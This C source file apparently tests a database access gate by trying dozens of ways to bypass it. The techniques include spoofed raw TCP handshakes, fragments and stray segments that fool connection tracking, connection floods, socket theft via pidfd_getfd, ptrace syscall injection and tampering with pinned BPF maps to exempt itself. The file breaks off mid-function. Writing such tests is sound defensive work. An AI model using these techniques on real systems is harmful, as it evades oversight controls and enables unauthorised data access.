// SPDX-License-Identifier: Apache-2.0
/*
 * One program, many ways to get to a database: `attack WAY ADDRESS PORT TOKEN [ARGUMENT…]`.
 *
 * Every way ends in a connected socket, if it can, and asks PostgreSQL on it for the token (see `speak`). One line on
 * standard output says what came of it: `answered`, `denied: TEXT`, or what failed. The exit status is 0 in every case:
 * what counts is what others saw, the database above all.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define WAIT_MS 4000

static struct sockaddr_storage dest;
static socklen_t dest_size;
static const char *address, *port, *token;
static char **rest;
static int rests;

static int say(const char *form, ...)
{
	va_list list;

	va_start(list, form);
	vprintf(form, list);
	va_end(list);
	puts("");
	fflush(stdout);
	return 0;
}

static int failed(const char *what)
{
	return say("%s: %s", what, strerror(errno));
}

static void aim(const char *where, const char *at)
{
	struct sockaddr_in *four = (void *)&dest;
	struct sockaddr_in6 *six = (void *)&dest;

	memset(&dest, 0, sizeof(dest));
	if (inet_pton(AF_INET, where, &four->sin_addr) == 1) {
		four->sin_family = AF_INET;
		four->sin_port = htons(atoi(at));
		dest_size = sizeof(*four);
	} else if (inet_pton(AF_INET6, strtok(strdup(where), "%"), &six->sin6_addr) == 1) {
		/* `%device` is the scope of a link-local address */
		six->sin6_scope_id = strchr(where, '%') ? if_nametoindex(strchr(where, '%') + 1) : 0;
		six->sin6_family = AF_INET6;
		six->sin6_port = htons(atoi(at));
		dest_size = sizeof(*six);
	}
}

static int tcp(int protocol)
{
	int fd = socket(dest.ss_family, SOCK_STREAM, protocol);
	struct timeval limit = {.tv_sec = WAIT_MS / 1000};

	if (fd >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
	}
	return fd;
}

/* StartupMessage of user `intruder`, database `shop`, and the token as application_name. */
static size_t startup(char *out)
{
	size_t size = 8;

	memcpy(out + 4, "\0\3\0\0", 4);
	size += sprintf(out + size, "user%cintruder%cdatabase%cshop%capplication_name%c%s", 0, 0, 0, 0, 0, token) + 1;
	out[size++] = 0;
	*(uint32_t *)out = htonl(size);
	return size;
}

static int read_all(int fd, char *into, size_t size)
{
	while (size) {
		ssize_t got = recv(fd, into, size, 0);

		if (got <= 0)
			return got ? -1 : -2;
		into += got;
		size -= got;
	}
	return 0;
}

static void show_error(const char *body)
{
	for (; *body; body += strlen(body) + 1)
		if (*body == 'M')
			say("denied: %s", body + 1);
}

/* Asks for the token. `sent` are bytes of the start-up message that went out already. */
static int speak_after(int fd, size_t sent)
{
	static char body[1 << 16];
	char message[512];
	size_t size = startup(message);
	int asked = 0, answered = 0;

	if (sent < size && send(fd, message + sent, size - sent, MSG_NOSIGNAL) < 0)
		return failed("send");
	for (;;) {
		char head[5];
		int got = read_all(fd, head, sizeof(head));

		if (got == -2)
			return answered ? 0 : say("closed by the other side");
		if (got)
			return answered ? 0 : failed("receive");
		size = ntohl(*(uint32_t *)(head + 1)) - 4;
		if (size >= sizeof(body) || read_all(fd, body, size))
			return say("a broken message");
		body[size] = 0;
		if (head[0] == 'E')
			show_error(body);
		if (head[0] == 'D')
			answered = 1;
		if (head[0] != 'Z')
			continue;
		if (asked)
			return answered ? say("answered") : 0;
		asked = 1;
		message[0] = 'Q';
		size = sprintf(message + 5, "SELECT '%s', name FROM customers LIMIT 1", token) + 5;
		*(uint32_t *)(message + 1) = htonl(size);
		if (send(fd, message, size + 1, MSG_NOSIGNAL) < 0)
			return failed("send");
	}
}

static int speak(int fd)
{
	return speak_after(fd, 0);
}

static int marked(int fd, const char *mark)
{
	int value = strtol(mark, 0, 0);

	return setsockopt(fd, SOL_SOCKET, SO_MARK, &value, sizeof(value));
}

static int dial(int fd)
{
	if (fd < 0)
		return failed("socket");
	if (connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	return speak(fd);
}

static int plain(void)
{
	return dial(tcp(0));
}

static int mptcp(void)
{
	return dial(tcp(IPPROTO_MPTCP));
}

static int smc(void)
{
	return dial(socket(43, SOCK_STREAM, dest.ss_family == AF_INET6));
}

static int fast_open_sendto(void)
{
	char message[512];
	size_t size = startup(message);
	int fd = tcp(0);
	ssize_t sent = sendto(fd, message, size, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&dest, dest_size);

	return sent < 0 ? failed("sendto") : speak_after(fd, sent);
}

static int fast_open_connect(void)
{
	int fd = tcp(0), on = 1;

	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)))
		return failed("TCP_FASTOPEN_CONNECT");
	return dial(fd);
}

static int fast_open_mptcp(void)
{
	char message[512];
	size_t size = startup(message);
	int fd = tcp(IPPROTO_MPTCP);
	ssize_t sent = sendto(fd, message, size, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&dest, dest_size);

	return sent < 0 ? failed("sendto") : speak_after(fd, sent);
}

/* Connects to port `rest[0]` first, lets go, and connects the same socket to the database. */
static int again(void)
{
	struct sockaddr nobody = {.sa_family = AF_UNSPEC};
	int fd = tcp(0);

	aim(address, rest[0]);
	if (connect(fd, (void *)&dest, dest_size) || connect(fd, &nobody, sizeof(nobody)))
		return failed("connect");
	aim(address, port);
	return dial(fd);
}

/* Sends the start-up message byte by byte, each in a segment of its own. */
static int trickle(void)
{
	char message[512];
	size_t size = startup(message);
	int fd = tcp(0), on = 1;

	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	if (connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	for (size_t sent = 0; sent < size; sent++) {
		if (send(fd, message + sent, 1, MSG_NOSIGNAL) != 1)
			return failed("send");
		usleep(2000);
	}
	return speak_after(fd, size);
}

/* Begins a login again and again. */
static int many(void)
{
	char message[512];
	size_t size = startup(message);
	struct linger now = {.l_onoff = 1};

	for (long one = atol(rest[0]); one > 0; one--) {
		int fd = tcp(0);

		setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		if (connect(fd, (void *)&dest, dest_size) || send(fd, message, size, MSG_NOSIGNAL) < 0)
			return failed("connect");
		close(fd);
	}
	return say("flooded");
}

/* --- io_uring ----------------------------------------------------------------------------------------------------- */

static int ring_connect(int fd, unsigned setup, unsigned flags)
{
	struct io_uring_params params = {.flags = setup, .sq_thread_idle = 2000};
	int ring = syscall(__NR_io_uring_setup, 4, &params);

	if (ring < 0)
		return failed("io_uring_setup");
	char *sq = mmap(0, params.sq_off.array + 64, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, params.cq_off.cqes + 256, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqe =
		mmap(0, 4 * sizeof(*sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);

	*sqe = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .flags = flags, .fd = fd, .addr = (uintptr_t)&dest,
				     .off = dest_size};
	((unsigned *)(sq + params.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (!(setup & IORING_SETUP_SQPOLL))
		syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
	for (int wait = 0; wait < WAIT_MS; wait++, usleep(1000)) {
		unsigned head = *(unsigned *)(cq + params.cq_off.head);
		unsigned tail = __atomic_load_n((unsigned *)(cq + params.cq_off.tail), __ATOMIC_ACQUIRE);

		if (head == tail) {
			if (setup & IORING_SETUP_SQPOLL)
				syscall(__NR_io_uring_enter, ring, 0, 0, IORING_ENTER_SQ_WAKEUP, 0, 0);
			continue;
		}
		errno = -((struct io_uring_cqe *)(cq + params.cq_off.cqes))->res;
		return errno ? failed("io_uring connect") : speak(fd);
	}
	return say("io_uring connect: no completion");
}

static int uring(void)
{
	return ring_connect(tcp(0), 0, 0);
}

static int uring_async(void)
{
	return ring_connect(tcp(0), 0, IOSQE_ASYNC);
}

static int uring_sqpoll(void)
{
	return ring_connect(tcp(0), IORING_SETUP_SQPOLL, 0);
}

/* --- socket options ----------------------------------------------------------------------------------------------- */

static int device(void)
{
	int fd = tcp(0);

	if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, rest[0], strlen(rest[0])))
		return failed("SO_BINDTODEVICE");
	if (rests > 1) {
		struct sockaddr_in from = {.sin_family = AF_INET};

		inet_pton(AF_INET, rest[1], &from.sin_addr);
		if (bind(fd, (void *)&from, sizeof(from)))
			return failed("bind");
	}
	return dial(fd);
}

static int mark(void)
{
	int fd = tcp(0), value = strtol(rest[0], 0, 0);

	if (setsockopt(fd, SOL_SOCKET, SO_MARK, &value, sizeof(value)))
		return failed("SO_MARK");
	return dial(fd);
}

/*
 * Puts the mark on when the programs have looked. The socket takes nothing that comes in meanwhile, so the kernel sends
 * the SYN again.
 */
static int mark_later(void)
{
	int fd = tcp(0), failure = 0, deaf = 255, hears = 0;
	socklen_t size = sizeof(failure);

	fcntl(fd, F_SETFL, O_NONBLOCK);
	setsockopt(fd, SOL_IP, IP_MINTTL, &deaf, sizeof(deaf));
	if (!connect(fd, (void *)&dest, dest_size) || errno != EINPROGRESS)
		return failed("connect");
	if (marked(fd, rest[0]))
		return failed("SO_MARK");
	usleep(atoi(rest[1]) * 1000);
	setsockopt(fd, SOL_IP, IP_MINTTL, &hears, sizeof(hears));
	if (poll(&(struct pollfd){.fd = fd, .events = POLLOUT}, 1, 3 * WAIT_MS) != 1)
		return say("no answer");
	getsockopt(fd, SOL_SOCKET, SO_ERROR, &failure, &size);
	errno = failure;
	if (failure)
		return failed("connect");
	fcntl(fd, F_SETFL, 0);
	return speak(fd);
}

static int bound(int number)
{
	int fd = tcp(0), on = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (dest.ss_family == AF_INET) {
		struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(number)};

		if (bind(fd, (void *)&from, sizeof(from)))
			return -1;
	} else {
		struct sockaddr_in6 from = {.sin6_family = AF_INET6, .sin6_port = htons(number)};

		if (bind(fd, (void *)&from, sizeof(from)))
			return -1;
	}
	return fd;
}

/* From the address `rest[0]`, which is another host's, by IP_FREEBIND or `rest[1]` `transparent`. */
static int foreign(void)
{
	int level = dest.ss_family == AF_INET ? SOL_IP : SOL_IPV6, on = 1;
	int option = level == SOL_IP ? (rests > 1 ? IP_TRANSPARENT : IP_FREEBIND) :
				       (rests > 1 ? IPV6_TRANSPARENT : IPV6_FREEBIND);
	struct sockaddr_storage to = dest;
	int fd = tcp(0);

	if (setsockopt(fd, level, option, &on, sizeof(on)))
		return failed("a foreign address");
	aim(rest[0], "0");
	if (bind(fd, (void *)&dest, dest_size))
		return failed("bind");
	dest = to;
	return dial(fd);
}

/* Headers of destination options, with a flow label, before that of TCP. */
static int extended(void)
{
	uint8_t options[8] = {0, 0, 1, 4};
	int fd = tcp(0), on = 1;
	struct sockaddr_in6 *six = (void *)&dest;

	if (setsockopt(fd, SOL_IPV6, IPV6_DSTOPTS, options, sizeof(options)))
		return failed("IPV6_DSTOPTS");
	setsockopt(fd, SOL_IPV6, IPV6_AUTOFLOWLABEL, &on, sizeof(on));
	six->sin6_flowinfo = 0;
	return dial(fd);
}

static int source_port(void)
{
	return dial(bound(atoi(rest[0])));
}

/*
 * Lets conntrack forget a connection that was redirected while its socket still lives. The socket's next packet is no
 * SYN: conntrack takes it for the middle of a connection that it has not seen, and that is not redirected. The packet
 * gets lost on its way (a stateful firewall before the database, or a small TTL), the socket gives up without a word,
 * and a new connection from the same port is taken for a continuation.
 */
static int outlive(void)
{
	int number = atoi(rest[0]), limit_ms = 200, fd = bound(number);

	/* the login is denied, and the other side closes its half */
	dial(fd);
	sleep(atoi(rest[1]));
	setsockopt(fd, IPPROTO_TCP, TCP_USER_TIMEOUT, &limit_ms, sizeof(limit_ms));
	send(fd, "x", 1, MSG_NOSIGNAL);
	poll(&(struct pollfd){.fd = fd}, 1, WAIT_MS);
	close(fd);
	fd = bound(number);
	return fd < 0 ? failed("bind") : dial(fd);
}

/* --- without a TCP socket ----------------------------------------------------------------------------------------- */

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
	char data[512];
};

static uint16_t fold(const void *data, size_t size, uint32_t sum)
{
	const uint8_t *bytes = data;

	for (size_t at = 0; at < size; at++)
		sum += at & 1 ? bytes[at] : bytes[at] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static size_t build(struct segment *out, const char *from, int from_port, int flags, uint32_t seq, uint32_t ack,
		    const void *data, size_t size)
{
	struct sockaddr_in *four = (void *)&dest;
	size_t length = sizeof(out->tcp) + size;

	memset(out, 0, sizeof(*out));
	out->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
				 .tot_len = htons(sizeof(out->ip) + length), .daddr = four->sin_addr.s_addr};
	inet_pton(AF_INET, from, &out->ip.saddr);
	out->ip.check = htons(~fold(&out->ip, sizeof(out->ip), 0));
	out->tcp = (struct tcphdr){.source = htons(from_port), .dest = four->sin_port, .seq = htonl(seq),
				   .ack_seq = htonl(ack), .doff = 5, .window = htons(64000)};
	((uint8_t *)&out->tcp)[13] = flags;
	memcpy(out->data, data, size);
	out->tcp.check = htons(~fold(&out->tcp, length, fold(&out->ip.saddr, 8, IPPROTO_TCP + length)));
	return sizeof(out->ip) + length;
}

static int raw_send(int fd, const struct segment *segment, size_t size)
{
	return sendto(fd, segment, size, 0, (void *)&dest, dest_size);
}

/* A handshake by hand; the kernel has to be kept from resetting it. */
static int raw(void)
{
	struct segment segment, reply;
	const char *from = rest[0];
	int number = atoi(rest[1]), flags = rests > 2 ? strtol(rest[2], 0, 0) : TH_SYN;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), in = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	struct timeval limit = {.tv_sec = 1};
	char message[512];

	if (fd < 0 || in < 0)
		return failed("raw socket");
	if (rests > 3 && marked(fd, rest[3]))
		return failed("SO_MARK");
	setsockopt(in, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	size_t size = build(&segment, from, number, flags, 7000, 0, "", 0);

	if (raw_send(fd, &segment, size) < 0)
		return failed("raw send");
	for (;;) {
		if (recv(in, &reply, sizeof(reply), 0) < 0)
			return failed("no SYN-ACK");
		if (reply.tcp.dest == htons(number) && reply.tcp.syn && reply.tcp.ack)
			break;
	}
	uint32_t ack = ntohl(reply.tcp.seq) + 1;

	size = build(&segment, from, number, TH_ACK, 7001, ack, "", 0);
	raw_send(fd, &segment, size);
	size = build(&segment, from, number, TH_ACK | TH_PUSH, 7001, ack, message, startup(message));
	raw_send(fd, &segment, size);
	for (;;) {
		if (recv(in, &reply, sizeof(reply), 0) < 0)
			return failed("no reply");
		if (reply.tcp.dest == htons(number) && ntohs(reply.ip.tot_len) > 60)
			return say("a reply to a connection made by hand");
	}
}

/* A stray segment makes conntrack believe in a connection that is not redirected; then a normal connect. */
static int raw_stray(void)
{
	struct segment segment;
	int number = atoi(rest[1]), fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		return failed("raw socket");
	size_t size = build(&segment, rest[0], number, TH_ACK, 7000, 9000, "", 0);

	segment.tcp.check ^= 1; /* the target drops it in silence, and sends no reset */
	if (raw_send(fd, &segment, size) < 0)
		return failed("raw send");
	usleep(20000);
	return dial(bound(number));
}

/* Fragments that conntrack does not see reassembled. */
static int raw_fragments(void)
{
	struct segment segment;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), on = 1, cut = atoi(rest[2]);

	if (fd < 0)
		return failed("raw socket");
	if (setsockopt(fd, SOL_IP, IP_NODEFRAG, &on, sizeof(on)))
		return failed("IP_NODEFRAG");
	size_t size = build(&segment, rest[0], atoi(rest[1]), TH_SYN, 7000, 0, "", 0);
	struct segment second = segment;

	memcpy(&second.tcp, (char *)&segment.tcp + cut, size - sizeof(segment.ip) - cut);
	segment.ip.frag_off = htons(IP_MF);
	second.ip.frag_off = htons(cut / 8);
	segment.ip.id = second.ip.id = htons(4711);
	int first = raw_send(fd, &segment, sizeof(segment.ip) + cut);

	if (first < 0)
		failed("first fragment");
	if (raw_send(fd, &second, size - cut) < 0)
		return failed("second fragment");
	return say("fragments are out");
}

/*
 * A SYN below IP, straight into the device `rest[2]`. With `rest[3]` past its queue too; the socket then stays open for
 * so many seconds.
 */
static int packet(void)
{
	int past = 1;
	struct segment segment;
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6,
				 .sll_ifindex = if_nametoindex(rest[2]), .sll_addr = {255, 255, 255, 255, 255, 255}};

	if (fd < 0)
		return failed("AF_PACKET socket");
	size_t size = build(&segment, rest[0], atoi(rest[1]), TH_SYN, 7000, 0, "", 0);

	if (rests > 3 && setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &past, sizeof(past)))
		return failed("PACKET_QDISC_BYPASS");
	if (sendto(fd, &segment, size, 0, (void *)&to, sizeof(to)) < 0)
		return failed("AF_PACKET send");
	say("the SYN is out");
	if (rests > 3)
		sleep(atoi(rest[3]));
	return 0;
}

/* Through an HTTP proxy at `rest[0]` `rest[1]`. */
static int http_connect(void)
{
	char text[512];
	int fd;

	aim(rest[0], rest[1]);
	fd = tcp(0);
	if (connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	send(fd, text, sprintf(text, "CONNECT %s:%s HTTP/1.1\r\n\r\n", address, port), MSG_NOSIGNAL);
	if (read_all(fd, text, strlen("HTTP/1.1 200 OK\r\n\r\n")))
		return failed("no answer of the HTTP proxy");
	return speak(fd);
}

/* IP options that have other hosts visited on the way: loose source route, or a segment routing header. */
static int source_route(void)
{
	int fd = tcp(0);
	struct sockaddr_in6 *six = (void *)&dest;
	uint8_t route[40] = {};

	if (dest.ss_family == AF_INET) {
		memcpy(route, (uint8_t[]){1, 131, 7, 4}, 4);
		inet_pton(AF_INET, rest[0], route + 4);
		if (setsockopt(fd, SOL_IP, IP_OPTIONS, route, 8))
			return failed("IP_OPTIONS");
	} else {
		memcpy(route, (uint8_t[]){0, 4, 4, 1, 1, 0, 0, 0}, 8);
		memcpy(route + 8, &six->sin6_addr, 16);
		inet_pton(AF_INET6, rest[0], route + 24);
		if (setsockopt(fd, SOL_IPV6, IPV6_RTHDR, route, sizeof(route)))
			return failed("IPV6_RTHDR");
	}
	return dial(fd);
}

static int udp(void)
{
	int fd = socket(dest.ss_family, SOCK_DGRAM, 0);

	if (rests && marked(fd, rest[0]))
		return failed("SO_MARK");
	if (sendto(fd, token, strlen(token), 0, (void *)&dest, dest_size) < 0)
		return failed("sendto");
	return say("the datagram is out");
}

static int vsock(void)
{
	struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = atoi(rest[0]), .svm_port = atoi(port)};
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

	if (fd < 0)
		return failed("AF_VSOCK socket");
	if (connect(fd, (void *)&to, sizeof(to)))
		return failed("AF_VSOCK connect");
	return speak(fd);
}

static int local(void)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(to.sun_path, rest[0], sizeof(to.sun_path) - 1);
	if (connect(fd, (void *)&to, sizeof(to)))
		return failed("AF_UNIX connect");
	return speak(fd);
}

/* Says that it is agent `rest[1]`, as `hopgate exec` does, and then connects. */
static int declare(void)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char text[512] = {};

	strncpy(to.sun_path, rest[0], sizeof(to.sun_path) - 1);
	if (connect(fd, (void *)&to, sizeof(to)))
		return failed("AF_UNIX connect");
	send(fd, text, sprintf(text, "{\"agent\": \"%s\"}\n", rest[1]), MSG_NOSIGNAL);
	ssize_t got = recv(fd, text, sizeof(text) - 1, 0);

	text[got > 0 ? got - 1 : 0] = 0;
	say("%s", text);
	return plain();
}

/* --- sockets that change hands ------------------------------------------------------------------------------------ */

static int pass(int over, int fd)
{
	char space[CMSG_SPACE(sizeof(int))] = {}, byte = 0;
	struct iovec data = {&byte, 1};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space,
				 .msg_controllen = sizeof(space)};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);

	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(head), &fd, sizeof(fd));
	return sendmsg(over, &message, 0);
}

static int receive(int over)
{
	char space[CMSG_SPACE(sizeof(int))] = {}, byte;
	struct iovec data = {&byte, 1};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space,
				 .msg_controllen = sizeof(space)};
	int fd = -1;

	if (recvmsg(over, &message, 0) == 1 && CMSG_FIRSTHDR(&message))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	return fd;
}

static int unix_socket(const char *path, int serve)
{
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(at.sun_path, path, sizeof(at.sun_path) - 1);
	if (serve) {
		if (bind(fd, (void *)&at, sizeof(at)) || listen(fd, 1))
			return -1;
		chmod(path, 0777);
		say("ready");
		return accept(fd, 0, 0);
	}
	return connect(fd, (void *)&at, sizeof(at)) ? -1 : fd;
}

/* Connects (`connected`), says so and leaves the SYN to the first write (`deferred`), or does not; hands the socket over. */
static int give(void)
{
	int fd = tcp(0), deferred = !strcmp(rest[1], "deferred");

	if (deferred && setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &deferred, sizeof(deferred)))
		return failed("TCP_FASTOPEN_CONNECT");
	if (strcmp(rest[1], "made") && connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	int over = unix_socket(rest[0], 1);

	pass(over, fd);
	sleep(2);
	return 0;
}

static int take(void)
{
	int over = unix_socket(rest[0], 0), fd = over < 0 ? -1 : receive(over);

	if (fd < 0)
		return failed("no socket came");
	if (strcmp(rest[1], "made"))
		return speak(fd);
	return dial(fd);
}

/* Connects, says its own process id and its descriptor, and waits to be robbed. */
static int keep(void)
{
	int fd = tcp(0);

	if (connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	say("%d %d", getpid(), fd);
	pause();
	return 0;
}

static int rob(void)
{
	int pidfd = syscall(SYS_pidfd_open, atoi(rest[0]), 0);
	int fd = syscall(SYS_pidfd_getfd, pidfd, atoi(rest[1]), 0);

	return fd < 0 ? failed("pidfd_getfd") : speak(fd);
}

/* A socket (argument `made`) or a connection that is older than the hooks; the token comes when they are in. */
static int early(void)
{
	static char line[64];
	int fd = tcp(0), made = !strcmp(rest[0], "made");

	if (!made && connect(fd, (void *)&dest, dest_size))
		return failed("connect");
	say("ready");
	if (!fgets(line, sizeof(line), stdin))
		return 0;
	line[strcspn(line, "\n")] = 0;
	token = line;
	return made ? dial(fd) : speak(fd);
}

static int fork_between(void)
{
	int fd = tcp(0);

	if (fork() == 0)
		_exit(dial(fd));
	wait(0);
	return 0;
}

/* The child's parent is ours and not us. */
static int clone_parent(void)
{
	int fd = tcp(0), done[2];

	if (pipe(done))
		return failed("pipe");
	if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0) {
		dial(fd);
		_exit(0);
	}
	close(done[1]);
	return read(done[0], &fd, 1) < 0;
}

static int orphan(void)
{
	int done[2];
	char byte;

	if (pipe(done))
		return failed("pipe");
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			usleep(50000);
			dial(tcp(0));
		}
		_exit(0);
	}
	close(done[1]);
	return read(done[0], &byte, 1) < 0;
}

/* --- borrowed identities ------------------------------------------------------------------------------------------ */

/* Runs `rest[0]` as a client, with `rest[1]` for its name. */
static int run_as(void)
{
	char *argv[] = {rest[rests > 1], "plain", (char *)address, (char *)port, (char *)token, 0};

	execv(rest[0], argv);
	return failed("execve");
}

/* Becomes another program. */
static int launch(void)
{
	execv(rest[0], rest);
	return failed("execve");
}

static int from_memory(void)
{
	int from = open(rest[0], O_RDONLY), fd = memfd_create(rest[0], 0);
	char block[4096], *argv[] = {rest[0], "plain", (char *)address, (char *)port, (char *)token, 0};

	for (ssize_t got; (got = read(from, block, sizeof(block))) > 0;)
		if (write(fd, block, got) != got)
			return failed("memfd");
	fexecve(fd, argv, environ);
	return failed("fexecve");
}

static int named(void)
{
	prctl(PR_SET_NAME, rest[0]);
	return plain();
}

/* Starts itself again until the chain of images is too long to be kept. */
static int deep(void)
{
	char left[16], *argv[] = {"/proc/self/exe", "deep", (char *)address, (char *)port, (char *)token, left, 0};

	if (!atoi(rest[0]))
		return plain();
	sprintf(left, "%d", atoi(rest[0]) - 1);
	execv(rest[1], (char *[]){argv[0], argv[1], argv[2], argv[3], argv[4], left, rest[1], 0});
	return failed("execve");
}

static int sleeper(void)
{
	prctl(PR_SET_DUMPABLE, 1);
	say("%d", getpid());
	pause();
	return 0;
}

#ifdef __x86_64__
static long inject(int pid, struct user_regs_struct at, long number, long a, long b, long c)
{
	int status;

	at.rip -= 2; /* it sleeps in a system call: the instruction is the one before */
	at.orig_rax = -1;
	at.rax = number;
	at.rdi = a;
	at.rsi = b;
	at.rdx = c;
	ptrace(PTRACE_SETREGS, pid, 0, &at);
	ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
	waitpid(pid, &status, 0);
	ptrace(PTRACE_GETREGS, pid, 0, &at);
	return at.rax;
}

/* Makes another process connect, and takes the socket. */
static int traced(void)
{
	struct user_regs_struct regs;
	int pid = atoi(rest[0]), status;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return failed("ptrace");
	waitpid(pid, &status, 0);
	ptrace(PTRACE_GETREGS, pid, 0, &regs);
	long stack = (regs.rsp - 4096) & ~15L;

	for (size_t at = 0; at < dest_size; at += 8)
		ptrace(PTRACE_POKEDATA, pid, stack + at, *(long *)((char *)&dest + at));
	int fd = inject(pid, regs, SYS_socket, dest.ss_family, SOCK_STREAM, 0);
	int done = inject(pid, regs, SYS_connect, fd, stack, dest_size);
	int own = syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, pid, 0), fd, 0);

	if (done || own < 0)
		return say("injected socket %d, connect %d", fd, done);
	speak(own);
	ptrace(PTRACE_KILL, pid, 0, 0);
	return 0;
}
#endif

/* Writes into the pinned maps, below `rest[0]`, that its own image is the proxy's. That takes no CAP_BPF. */
static int pinned(void)
{
	char path[256];
	uint64_t node;
	uint32_t pid = getpid(), one = 1;
	union bpf_attr get = {.pathname = (uintptr_t)path};

	sprintf(path, "%s/procs", rest[0]);
	union bpf_attr look = {.map_fd = syscall(__NR_bpf, BPF_OBJ_GET, &get, sizeof(get)), .key = (uintptr_t)&pid,
			       .value = (uintptr_t)&node};

	if (syscall(__NR_bpf, BPF_MAP_LOOKUP_ELEM, &look, sizeof(look)))
		return failed("procs");
	sprintf(path, "%s/exempt", rest[0]);
	union bpf_attr put = {.map_fd = syscall(__NR_bpf, BPF_OBJ_GET, &get, sizeof(get)), .key = (uintptr_t)&node,
			      .value = (uintptr_t)&one};

	if (syscall(__NR_bpf, BPF_MAP_UPDATE_ELEM, &put, sizeof(put)))
		return failed("exempt");
	return plain();
}

/* --- namespaces and tables ---------------------------------------------------------------------------------------- */

static int lift_loopback(void)
{
	struct ifreq request = {.ifr_name = "lo", .ifr_flags = IFF_UP};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return ioctl(fd, SIOCSIFFLAGS, &request);
}

static int new_namespace(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
		return failed("unshare");
	return plain();
}

/* In a namespace of its own, connects to itself at a protected port, each time between other addresses: records pile up. */
static int flood(void)
{
	long number = atol(rest[0]);
	int on = 1;
	struct linger now = {.l_onoff = 1};

	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) || lift_loopback())
		return failed("unshare");
	struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	int server = socket(AF_INET, SOCK_STREAM, 0);

	if (bind(server, (void *)&at, sizeof(at)) || listen(server, 4096))
		return failed("listen");
	for (long one = 0; one < number; one++) {
		struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(10000 + one % 50000)};
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		from.sin_addr.s_addr = at.sin_addr.s_addr = htonl(INADDR_LOOPBACK + one / 50000);
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		if (bind(fd, (void *)&from, sizeof(from)) || connect(fd, (void *)&at, sizeof(at)))
			return failed("connect");
